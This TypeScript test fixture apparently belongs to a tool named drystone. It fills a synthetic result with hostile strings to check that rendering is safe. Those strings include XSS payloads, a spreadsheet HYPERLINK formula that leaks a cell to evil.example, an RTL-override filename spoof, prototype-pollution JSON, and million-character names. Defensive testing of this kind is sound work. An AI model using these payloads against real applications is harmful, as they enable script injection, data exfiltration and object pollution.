/** A result in which every text that comes from outside tries to be something else than text. */
import type { Result } from "../../../drystone/src/model/result.js";
import { syntheticResult } from "./synthetic-result.js";

const attacks = [
  "</script><script>window.hacked=1</script>",
  '<img src=x onerror="window.hacked=1">',
  "javascript:window.hacked=1",
  '=HYPERLINK("http://evil.example/?"&A1)',
  "\u0000\u0007\u001b[2J\u202egnp.exe",
  "<!--<script>",
  "' onmouseover='window.hacked=1",
  "\u2028\u2029\ud800",
  "$& $` $' $1",
  "__proto__",
];

/** Refs stay as they are: they are the tool's own; every name, path, text and message is an attack, and a component, a team and a store have names of up to a million characters, of letters, emoji and Hebrew. */
export function hostileResult(): Result {
  const calm = syntheticResult({ services: 6 });
  let next = 0;
  const attack = (text: string): string => `${attacks[next++ % attacks.length]} ${text}`;
  const spoiled = spoil(calm, attack) as Result;
  const parameters = JSON.parse(
    '{"__proto__":{"polluted":true},"constructor":{"<b>":"</script>"},"A1":{"tLo":0.1,"tHi":0.25}}',
  ) as Record<string, unknown>;
  return {
    ...spoiled,
    model: {
      ...spoiled.model,
      components: firstNamed(spoiled.model.components, "M".repeat(1_000_000)),
      teams: firstNamed(spoiled.model.teams, "👩‍👩‍👧‍👦🏳️‍🌈 ".repeat(30_000)),
      resources: firstNamed(spoiled.model.resources, `\u202e${"מאגר ".repeat(200_000)}`),
    },
    parameters,
  };
}

function firstNamed<Thing extends { readonly name: string }>(things: readonly Thing[], name: string): readonly Thing[] {
  return things.map((thing, index) => (index === 0 ? { ...thing, name } : thing));
}

/** Keys whose text a repository can choose. */
const chosen = new Set([
  "name",
  "system",
  "message",
  "fix",
  "detail",
  "text",
  "subject",
  "file",
  "path",
  "reason",
  "question",
  "answer",
  "hint",
  "input",
  "how",
  "technology",
  "changeSetUnitReason",
  "rule",
  "owner",
  "version",
  "natureReason",
  "problem",
  "of",
]);
/** Words of the tool itself. */
const ours = new Set(["system", "drystone"]);
const chosenLists = new Set(["reasons", "aliases", "paths", "functions", "inferredFrom", "hygiene", "wouldChange", "steps"]);

function spoil(value: unknown, attack: (text: string) => string, key = ""): unknown {
  if (typeof value === "string")
    return chosen.has(key) && !ours.has(value) && !value.startsWith("component:") ? attack(value) : value;
  if (Array.isArray(value))
    return value.map((each: unknown) =>
      typeof each === "string" && chosenLists.has(key) ? attack(each) : spoil(each, attack, key === "subjects" ? "" : key),
    );
  if (typeof value !== "object" || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, spoil(each, attack, name)]));
}
